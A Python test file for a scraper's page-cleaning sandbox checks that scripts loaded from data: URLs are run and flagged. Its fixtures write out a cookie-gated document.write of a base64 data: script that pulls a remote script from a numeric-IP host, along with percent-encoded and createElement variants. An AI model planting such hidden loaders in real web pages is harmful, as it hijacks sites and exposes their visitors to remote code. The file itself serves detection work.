"""A <script> whose address is a data: URL runs its code, as a browser does (v44 account B1,
rc44b-001 ... -004: a cookie-gated document.write of a base64 data: script that writes a remote
<script> of a numeric-IP host). Read as an address only, the decoded script's acts were never seen.
Written afresh in the miss's form, not copied from the pages."""
from __future__ import annotations

import base64
import json
from urllib.parse import quote

from scraper.clean import clean_page
from scraper.clean.sandbox import run_scripts
from tests.clean.conftest import kinds
from tests.clean.test_structural import BODY, URL, page

LOADER = "http://185.44.12.9/qZx9Tk"
TAG = quote(f'<script src="{LOADER}"></script>', safe="")
PAYLOAD = f"document.write(unescape('{TAG}'));"


def _b64(code: str) -> str:
    return "data:text/javascript;base64," + base64.b64encode(code.encode()).decode()


def _loads(run, view):
    return [e.value for e in run.effects[view] if e.kind in ("load", "write") and LOADER in e.value]


def test_cookie_gated_write_of_a_data_url_script_loading_an_unnamed_host_is_flagged():
    gate = ("function seen(k){var m=document.cookie.match(new RegExp('(?:^|; )'+k+'=([^;]*)'));"
            "return m?decodeURIComponent(m[1]):void 0}var src=" + json.dumps(_b64(PAYLOAD)) + ";"
            "if(seen('back')===void 0){document.cookie='back=1; path=/';"
            "document.write('<script src=\"'+src+'\"><\\/script>')}")
    a = clean_page(page(head="", body=BODY + f"<script>{gate}</script>"), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert any(LOADER in f.evidence for f in a.findings)


def test_written_and_built_data_url_scripts_run_base64_or_percent_encoded():
    for src in (_b64(PAYLOAD), "data:application/javascript," + quote(PAYLOAD, safe="")):
        for code in (f"document.write('<script src=\"{src}\"></scr'+'ipt>');",
                     f"var s=document.createElement('script');s.src={json.dumps(src)};document.head.appendChild(s);"):
            run = run_scripts([(0, code)], URL)
            assert _loads(run, "desktop_direct") and _loads(run, "spider"), code


def test_a_data_url_of_another_type_is_no_script():
    src = "data:text/plain;base64," + base64.b64encode(PAYLOAD.encode()).decode()
    run = run_scripts([(0, f"document.write('<script src=\"{src}\"></scr'+'ipt>');")], URL)
    assert not _loads(run, "desktop_direct")


def test_a_sites_own_data_url_script_is_left():
    own = _b64("window.siteReady=true;document.documentElement.className+=' js';")
    a = clean_page(page(head=f'<script src="{own}"></script>', body=BODY), url=URL)
    assert not a.hijacked, a.findings


def test_a_data_url_script_writing_itself_stops():
    code = "function w(s){document.write('<script src=\"'+s+'\"></scr'+'ipt>')}"
    me = _b64(code + "w(document.__me);")
    run = run_scripts([(0, code + f"document.__me={json.dumps(me)};w(document.__me);"),
                       (1, "location.replace('https://example.org/next')")], URL)
    assert 1 in run.ran and "https://example.org/next" in [e.value for e in run.effects["spider"] if e.kind == "nav"]
